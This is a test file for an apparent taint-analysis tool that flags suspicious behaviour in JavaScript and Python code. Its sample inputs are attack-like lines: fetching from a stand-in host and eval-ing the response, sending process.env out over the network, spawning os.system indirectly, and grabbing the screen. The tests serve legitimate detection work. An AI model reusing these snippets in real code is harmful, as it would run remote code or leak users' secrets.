import { describe, expect, it } from 'vitest';
import {
  interpretJavaScript,
  pythonValueOf,
  valueOf,
  factLines,
  interpretPython,
} from '../../../tests/taint/interpret-code.ts';
import { ENVIRONMENT, SCREEN, VARIABLE, FETCHED } from '../label.ts';

describe('callApi()', () => {
  it('passes the content of the arguments through an unknown function', () => {
    expect(valueOf('f(process.env)').labels).toBe(ENVIRONMENT);
    expect(valueOf('a.b({ c: [process.env] })').labels).toBe(ENVIRONMENT);
    expect(valueOf('process.env.toJSON').labels).not.toBe(0);
  });

  it('passes it in a bundle only through functions that are known to do so', () => {
    expect(valueOf('f(process.env)', '', true).labels).toBe(0);
    expect(valueOf('JSON.stringify(process.env)', '', true).labels).toBe(ENVIRONMENT);
    expect(valueOf('Object.entries(process.env)', '', true).labels).toBe(ENVIRONMENT);
    expect(valueOf('Object.freeze2(process.env)', '', true).labels).toBe(0);
    expect(valueOf('f(1).join2(process.env)', '', true).labels).toBe(0);
    expect(valueOf("[process.env].concat('a')", '', true).labels).toBe(ENVIRONMENT);
  });

  it('folds constant texts of functions without a description', () => {
    expect(valueOf("decodeURIComponent('%61')").texts).toEqual(['a']);
    expect(valueOf("require('path').join('a', 'b')").texts).toEqual(['a/b']);
  });

  it('calls callbacks with the content of the receiver and the result', () => {
    const text = `require('https').get('http://a.io', (response) => {
      response.on('data', (chunk) => eval(chunk));
    })`;
    const executed = interpretJavaScript(text).facts.filter((f) => f.action === 'execute');
    expect(executed.map((f) => f.operand.origins[0]?.what)).toEqual(['http.get']);
  });

  it('calls the callbacks of unknown functions of a bundle only when these are listeners', () => {
    const sentBy = (method: string, isLarge: boolean): number | undefined => {
      const text = `JSON.parse(process.env.X).${method}((x) => fetch('http://a.io', x))`;
      const [sent] = interpretJavaScript(text, isLarge).facts.filter((f) => f.action === 'send');
      return sent?.content.labels;
    };
    expect(sentBy('on', true)).toBe(VARIABLE);
    expect(sentBy('on2', true)).toBe(0);
    expect(sentBy('on2', false)).toBe(VARIABLE);
  });

  it('stores a screenshot into the buffer that it is saved to', () => {
    const before = `import io
from PIL import ImageGrab
b = io.BytesIO()
ImageGrab.grab().save(b)`;
    expect(pythonValueOf('f(b)', before).labels).toBe(SCREEN);
  });
});

describe('callSpecial()', () => {
  it.each([
    ["require('fs')", ['fs']],
    ["require('node:' + 'fs').readFile", ['fs.readFile']],
    ['require(f())', []],
    ["Reflect.get(require('fs'), 'rm')", ['fs.rm']],
    ["Object.assign({}, require('fs')).rm", []],
  ])('%s', (expression, names) => {
    expect(valueOf(expression).names).toEqual(names);
  });

  it.each([
    ["__import__('os').system", ['os.system']],
    ["importlib.import_module('os')", ['os']],
    ["getattr(os, 'system')", ['os.system']],
    ["globals()['eval']", ['builtins.eval']],
  ])('Python: %s', (expression, names) => {
    expect(pythonValueOf(expression, 'import os, importlib').names).toEqual(names);
  });

  it('records the name of a loaded module', () => {
    const { facts } = interpretJavaScript("require('a'); import('b')");
    expect(factLines(facts)).toEqual(['load require a', 'load import b']);
  });

  it('copies the fields of objects', () => {
    const before = "const a = { a: '1' }; Object.assign(a, { b: '2' }, { a: '3' })";
    expect(valueOf('a.b', before).texts).toEqual(['2']);
    expect(valueOf('a.a', before).texts).toEqual(['1', '3']);
  });

  it.each([
    "import threading\ndef f(x):\n    os.system(x)\nthreading.Thread(target=f, args=('a',))",
    "import threading\nthreading.Thread(target=os.system, args=('a',))",
    "import _thread\ndef f(x):\n    os.system(x)\n_thread.start_new_thread(f, ('a',))",
    "import atexit\natexit.register(os.system, ['a'])",
    "def f(x):\n    os.system(x)\nlist(map(f, ['a']))",
    "list(map(os.system, ['a']))",
  ])('starts a function: %j', (text) => {
    const { facts } = interpretPython(`import os\n${text}`);
    expect(factLines(facts)).toContain('spawn os.system a');
  });

  it('looks once at each object that a client sends', () => {
    const fields = (name: string): string =>
      Array.from({ length: 100 }, (_, at) => `f${at}: ${name}`).join();
    const objects = ['b', 'c', 'd', 'e'].map(
      (name, at) => `const ${name} = { ${fields('abcd'[at]!)} };`,
    );
    const text = `import { Client } from 'some-client';\nconst a = { x: process.env };\n${objects.join('\n')}`;
    const { facts } = interpretJavaScript(`${text}\nnew Client('https://c.host.io/').send(e);`);
    expect(
      facts.filter(({ action }) => action === 'send').map(({ content }) => content.labels),
    ).toEqual([ENVIRONMENT]);
  });

  it('returns the argument of functions that only wrap it', () => {
    for (const name of ['Promise.resolve', 'Promise.race', 'Array.from']) {
      expect(valueOf(`${name}('a')`).texts).toEqual(['a']);
    }
  });
});

describe('callPromise()', () => {
  it('has the value that the executor resolves', () => {
    expect(valueOf("new Promise((resolve) => resolve('a'))").texts).toEqual(['a']);
    expect(valueOf("new Promise((_, reject) => reject('a'))").texts).toEqual(['a']);
  });

  it('has the value that a callback resolves', () => {
    const text = "new Promise((ok) => require('https').get('http://a.io', (r) => ok(r)))";
    expect(valueOf(text).labels).toBe(FETCHED);
  });

  it('keeps the promises of two places apart', () => {
    const before = "const a = new Promise((ok) => ok('a')); const b = new Promise((ok) => ok('b'))";
    expect(valueOf('b', before).texts).toEqual(['b']);
  });

  it('is empty without an executor', () => {
    expect(valueOf('new Promise()').texts).toEqual([]);
  });
});
